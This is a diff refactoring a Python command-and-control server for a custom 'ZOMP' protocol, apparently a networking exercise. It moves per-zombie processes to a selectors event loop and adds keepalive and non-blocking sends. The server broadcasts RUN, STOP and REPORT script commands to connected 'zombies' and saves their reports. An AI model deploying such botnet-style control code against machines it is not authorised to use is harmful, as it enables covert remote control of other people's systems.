@@ -1,114 +1,156 @@
 #!/usr/bin/env python3
 
 from socket import *
-import select
+from functools import lru_cache
+import re
+import selectors
 import sys
-import multiprocessing
 
 NEED_SCRIPTNAME = "Need scriptname and arguments (if any)!"
 RETURN_MAIN = "Returning to main loop."
 
-ACCEPT_MSG = "ZOMP/1.0 0 ACCEPT\r\n\r\n"
-CLOSE_MSG = "ZOMP/1.0 9 CLOSE\r\n\r\n"
+ACCEPT_MSG = b"ZOMP/1.0 0 ACCEPT\r\n\r\n"
+CLOSE_MSG = b"ZOMP/1.0 9 CLOSE\r\n\r\n"
 
-NOT_UNDERSTOOD = "ZOMP/1.0 5 NOT UNDERSTOOD\r\n\r\n"
+NOT_UNDERSTOOD = b"ZOMP/1.0 5 NOT UNDERSTOOD\r\n\r\n"
 
 ZOMP_PORT = 1932
+RECV_SIZE = 65536 # bytes per recv; large reports take far fewer syscalls
+SEND_BUFFER_SIZE = 262144 # kernel send buffer per zombie, so broadcasts rarely have to wait
+KEEPALIVE_IDLE = 60 # seconds of silence before probing a zombie
+KEEPALIVE_INTERVAL = 10 # seconds between probes
+KEEPALIVE_COUNT = 3 # unanswered probes before the zombie counts as dead
+_KEEPALIVE_OPTIONS = tuple( # None where the platform lacks the option (e.g. no TCP_KEEPIDLE on macOS)
+    (getattr(sys.modules["socket"], name, None), value) # the star import shadows the module name with the class
+    for name, value in (("TCP_KEEPIDLE", KEEPALIVE_IDLE), ("TCP_KEEPINTVL", KEEPALIVE_INTERVAL), ("TCP_KEEPCNT", KEEPALIVE_COUNT))
+)
+
+# status line, then the script line for script responses; printable ASCII only
+_STATUS_RE = re.compile(rb'ZOMP/([!-~]+) ([!-~]+) ([ -~]+)\r\n(?:([ -~]+)\r\n)?')
+_CONTENT_LENGTH = b"Content-Length: "
+
+_CMD_CODE = {"run": "1", "stop": "2", "report": "3"}
+_ERROR_CODES = frozenset({"01", "02"}) # can add to this to handle any 0-09 code
+_REPORT_CODES = frozenset({"12", "30"}) # responses that carry an entity body
 
 class ZOMPResponseBuffer(object):
+    __slots__ = ("buf", "code", "status_message", "script_invocation", "num_chars", "connected", "replies") # one of these per connection
+    _SIGNAL = b'\r\n\r\n' # end of header signal
+
     def __init__(self):
-        self.buf = ""
-        self.signal = '\r\n\r\n' # end of header signal
+        self.buf = bytearray()
         self.code = ""
         self.status_message = ""
         self.script_invocation = ""
         self.num_chars = 0
+        self.connected = True # goes False once the peer hangs up
+        self.replies = bytearray() # control replies for the main loop to queue behind any pending request
+
+    def bufferMessages(self,sock): # one recv per readiness event; returns (script invocation, report piece, complete) for each piece of report it got
+        try:
+            data = sock.recv(RECV_SIZE)
+        except BlockingIOError: # nothing there after all
+            return []
+        except OSError: # reset, or keepalive gave up on the zombie
+            data = b""
+
+        if not data:
+            self.connected = False
+            return []
+
+        self.buf.extend(data)
+        reports = []
+        while self.parseMessage(reports): # the buffer may hold several messages, or only part of one
+            pass
+        return reports
+
+    def parseMessage(self, reports) -> bool: # False until the buffer holds the whole of the next header, or more of a body
+        if self.num_chars > 0: # read entity body, handing it on as it arrives
+            if not self.buf:
+                return False
+            piece_size = min(len(self.buf), self.num_chars)
+            body = self.buf
+            self.buf = body[piece_size:] # anything left over belongs to the next message
+            self.num_chars -= piece_size # back to 0 for the next message once the report is all in
+            reports.append((self.script_invocation, memoryview(body)[:piece_size], self.num_chars == 0)) # the report itself is never copied or decoded
+            return True
+
+        signal_index = self.buf.find(self._SIGNAL)
+        if signal_index == -1:
+            return False
+
+        # found end of header
+        print(self.buf[:signal_index].decode('ascii', 'replace') + "\n") # newline for readability
+        header = _STATUS_RE.match(self.buf, 0, signal_index+2) # +2 keeps the last line's \r\n in range
+        fields = header.groups() if header else None # pulled out before the buffer shifts
+        content_length = None
+        if fields and not fields[1].startswith(b"0"): # 0X codes are errors, so no length to find
+            length_index = self.buf.find(_CONTENT_LENGTH, header.end(), signal_index) # after the script line, which could contain the same text
+            if length_index != -1:
+                length_end = self.buf.find(b"\r\n", length_index, signal_index+2)
+                digits = self.buf[length_index+len(_CONTENT_LENGTH):length_end]
+                content_length = int(digits) if digits.isdigit() else None
+        del self.buf[:signal_index+len(self._SIGNAL)]
+
+        if fields is None:
+            print("Unpacking failed!")
+            self.replies += NOT_UNDERSTOOD
+            return True
+
+        version, code, msg = (field.decode('ascii') for field in fields[:3])
+        script_line = fields[3]
+        self.code = code
+        self.status_message = msg
+        if code == "00": # this is the welcome case
+            self.replies += ACCEPT_MSG
+            # zombie gets registered in main code loop
+        elif code in _ERROR_CODES: # error found
+            print(f"Error: {code} {msg}")
+        else: # default case
+            if script_line is None or content_length is None:
+                print("Unpacking failed!")
+                self.replies += NOT_UNDERSTOOD
+                return True
+            self.script_invocation = script_line.decode('ascii')
+            self.num_chars = content_length
+            if code in _REPORT_CODES and self.num_chars == 0: # empty report; nothing more to read
+                reports.append((self.script_invocation, memoryview(b""), True))
+        return True
 
-    def bufferMessages(self,sock):
-        while True:
-            if self.num_chars <= 0:
-                data = sock.recv(1024)
-
-                if len(data) == 0:
-                    return None
-                
-                self.buf += data.decode()
-
-                signal_index = self.buf.find(self.signal)
-                if signal_index != -1: # found end of header
-                    header = self.buf[:signal_index]
-                    print(header + "\n") # newline for readability
-                    self.buf = self.buf[signal_index+len(self.signal):]
-                    
-                    try:
-                        status_line, *rest_of_header = header.split('\r\n') # splitting along newlines and pulling first line out
-                        version, code, msg = status_line.strip().split(' ', 2)
-                    except ValueError:
-                        print("Unpacking failed!")
-                        sock.send(NOT_UNDERSTOOD.encode())
-                        return None
-
-                    self.code = code
-                    self.status_message = msg
-                    match code:
-                        case "00": # this is the welcome case
-                            sock.send(ACCEPT_MSG.encode())
-                            return None
-                            # zombie gets registered in main code loop
-                        case "01" | "02": # error found; can modify later to handle any 0-09 code
-                            print(f"Error: {code} {msg}")
-                            return None
-                        case _: # default case
-                            script_line, content_length = rest_of_header
-                            self.script_invocation = script_line
-                            # parsing content-length
-                            num_chars = int(content_length.split(': ')[1])
-                            self.num_chars = num_chars
-                            if code != "12" and code != "30": # means there is a report to return
-                                return None # no entity body to return
-                
-            if self.num_chars > 0: # read entity body
-                while len(self.buf) < self.num_chars:
-                    data = sock.recv(1024)
-
-                    if len(data) == 0:
-                        return None
-                    
-                    self.buf += data.decode()
-                return self.buf
-            
 
 class Zombie(object):
     def __init__(self, sock, addr):
         self.sock = sock
         self.addr = addr
-        self.process = multiprocessing.Process(target=handleResponses, args=(sock, addr))
+        self.buffer = ZOMPResponseBuffer() # read from by the main select loop
+        self.outbox = bytearray() # requests the socket couldn't take yet
+        self.report_file = None # the report being received; closed once its last byte is in
 
     def __str__(self):
         result = f"{self.addr}"
         return result
 
+    def close(self) -> None:
+        if self.report_file is not None: # gone partway through a report
+            self.report_file.close()
+        self.sock.close()
+
 def printHowTo() -> None:
     print("Usage: [RUN | STOP | REPORT] <scriptname> <args...>")
     print("EXIT to end")
     print("HELP to see this message again.")
 
-def makeZOMPRequest(command: str, script_invocation: str, version: str = "1.0", ) -> str:
-    match command.casefold():
-        case "run":
-            code = "1"
-        case "stop":
-            code = "2"
-        case "report":
-            code = "3"
-    
+@lru_cache(maxsize=256) # the same command is often sent over and over (e.g. repeated REPORTs)
+def makeZOMPRequest(command: str, script_invocation: str, version: str = "1.0", ) -> bytes: # ready to hand to send()
+    code = _CMD_CODE[command.casefold()]
+
     request = (
         f"ZOMP/{version} {code} {command.upper()}\r\n"
         f"{script_invocation}\r\n"
         f"\r\n" # end of header signal (and incidentally end of message)
     )
     # print(request)
-    return request
+    return request.encode()
 
 def prettyPrintZombies(zombies: list[Zombie]) -> None:
     print("0: ALL zombies")
@@ -132,32 +174,69 @@ def selectTarget(zombies: list[Zombie]) -> int:
             return int(choice)
     return -1
 
-def handleResponses(conn_sock: socket, zombie_id: str) -> None:
-    buffer = ZOMPResponseBuffer()
-    while True:
-        msg = buffer.bufferMessages(conn_sock)
-        if msg: 
-            # let's write to a result file
-            report_file = open(f"{zombie_id} {buffer.script_invocation}.txt", 'w')
-            report_file.write(msg)
-            report_file.close()
-            buffer.num_chars = 0 # reset num_chars for next message
-            buffer.buf = "" # reset buffer for next message
+def tuneSocket(sock: socket) -> None:
+    sock.setsockopt(IPPROTO_TCP, TCP_NODELAY, 1) # control messages are tiny; don't let Nagle sit on them
+    sock.setsockopt(SOL_SOCKET, SO_SNDBUF, SEND_BUFFER_SIZE)
+    sock.setsockopt(SOL_SOCKET, SO_KEEPALIVE, 1) # notice dead zombies without a heartbeat of our own
+    for option, value in _KEEPALIVE_OPTIONS:
+        if option is not None: # plain SO_KEEPALIVE timing for whatever the platform lacks
+            sock.setsockopt(IPPROTO_TCP, option, value)
+
+def sendToZombie(sel: selectors.BaseSelector, zombie: Zombie, payload: bytes) -> None: # never blocks
+    if not zombie.outbox: # nothing queued ahead of us, so try right away
+        try:
+            sent = zombie.sock.send(payload, MSG_DONTWAIT)
+        except BlockingIOError:
+            sent = 0
+        except OSError: # dead; dropped by the main loop when its socket reads as closed
+            zombie.buffer.connected = False
+            return
+        payload = payload[sent:]
+    if payload: # send buffer is full; finish once the selector says it's writable
+        zombie.outbox += payload
+        sel.modify(zombie.sock, selectors.EVENT_READ | selectors.EVENT_WRITE, data=zombie)
+
+def flushZombie(sel: selectors.BaseSelector, zombie: Zombie) -> None: # called whenever the zombie's socket is writable
+    try:
+        sent = zombie.sock.send(zombie.outbox, MSG_DONTWAIT)
+    except BlockingIOError:
+        return
+    except OSError: # dead; dropped by the main loop right after this
+        zombie.buffer.connected = False
+        return
+    del zombie.outbox[:sent]
+    if not zombie.outbox: # all caught up, stop watching for writability
+        sel.modify(zombie.sock, selectors.EVENT_READ, data=zombie)
+
+def handleResponses(sel: selectors.BaseSelector, zombie: Zombie) -> None: # called whenever the zombie's socket is readable
+    for script_invocation, piece, complete in zombie.buffer.bufferMessages(zombie.sock):
+        # let's write to a result file, opened once for the whole report
+        if zombie.report_file is None: # first piece of this report
+            zombie.report_file = open(f"{zombie.addr} {script_invocation}.txt", 'wb')
+        zombie.report_file.write(piece) # straight from the receive buffer
+        if complete: # end of the command, so at most one report file open per zombie
+            zombie.report_file.close()
+            zombie.report_file = None
+    replies = zombie.buffer.replies
+    if replies and zombie.buffer.connected: # through the outbox, so they never cut into a half-sent request
+        sendToZombie(sel, zombie, bytes(replies))
+        replies.clear()
 
 def main():
-    sockets = [sys.stdin] # preloading our list with a listener for stdin
+    sel = selectors.DefaultSelector() # epoll where available
+    sel.register(sys.stdin, selectors.EVENT_READ, data="stdin") # preloading with a listener for stdin
     welcome_sock = socket(AF_INET, SOCK_STREAM)
     welcome_sock.bind(('', ZOMP_PORT))
     welcome_sock.listen(10)
-    sockets.append(welcome_sock)
+    sel.register(welcome_sock, selectors.EVENT_READ, data="welcome")
 
     zombies: [Zombie] = []
 
     printHowTo()
     while True:
-        ready_sockets, *_ = select.select(sockets, [], [])
-        for sock in ready_sockets:
-            if sock == sys.stdin:
+        events = sel.select()
+        for key, mask in events:
+            if key.data == "stdin":
                 choice = sys.stdin.readline()
                 command, *script_invocation = choice.strip().split(' ', 1)
                 match command.casefold():
@@ -165,9 +244,12 @@ def main():
                         print("Shutting down C&C server...")
                         welcome_sock.close()
                         for zombie in zombies:
-                            zombie.sock.send(CLOSE_MSG.encode())
-                            zombie.sock.close()
-                            zombie.process.terminate()
+                            try:
+                                zombie.sock.send(zombie.outbox + CLOSE_MSG, MSG_DONTWAIT) # finish anything queued first, if it fits
+                            except OSError: # already gone, or not reading; it sees the close instead
+                                pass
+                            zombie.close()
+                        sel.close()
                         exit(1)
                     case "help":
                         printHowTo()
@@ -181,20 +263,32 @@ def main():
                                 case -1:
                                     print(RETURN_MAIN)
                                 case 0:
-                                    for zombie in zombies:
-                                        zombie.sock.send(makeZOMPRequest(command, script_invocation).encode())
+                                    payload = makeZOMPRequest(command, script_invocation) # identical for every zombie
+                                    for zombie in zombies: # queued rather than waiting on each zombie in turn
+                                        sendToZombie(sel, zombie, payload)
                                 case _: # default case; i.e. specific zombie
                                     target_zombie = zombies[target-1] # need to adjust by one (0 is all zombies)
-                                    target_zombie.sock.send(makeZOMPRequest(command, script_invocation).encode())
+                                    sendToZombie(sel, target_zombie, makeZOMPRequest(command, script_invocation))
                         
                     case _: # default case
                         print("Unknown command. HELP for more info.")
-            elif sock == welcome_sock:
-                conn_sock, addr = sock.accept()
+            elif key.data == "welcome":
+                conn_sock, addr = welcome_sock.accept()
+                tuneSocket(conn_sock)
                 new_zombie = Zombie(conn_sock, addr)
                 zombies.append(new_zombie)
-                sockets.append(conn_sock) 
-                new_zombie.process.start() # initialize pipeline to that zombie
+                sel.register(conn_sock, selectors.EVENT_READ, data=new_zombie)
+            else: # must be a zombie ready to listen or talk to us
+                zombie = key.data
+                if mask & selectors.EVENT_WRITE:
+                    flushZombie(sel, zombie)
+                if mask & selectors.EVENT_READ:
+                    handleResponses(sel, zombie)
+                if not zombie.buffer.connected:
+                    print(f"Zombie {zombie} disconnected.")
+                    zombies.remove(zombie)
+                    sel.unregister(zombie.sock)
+                    zombie.close()
 
 if __name__ == '__main__':
     main()
\ No newline at end of file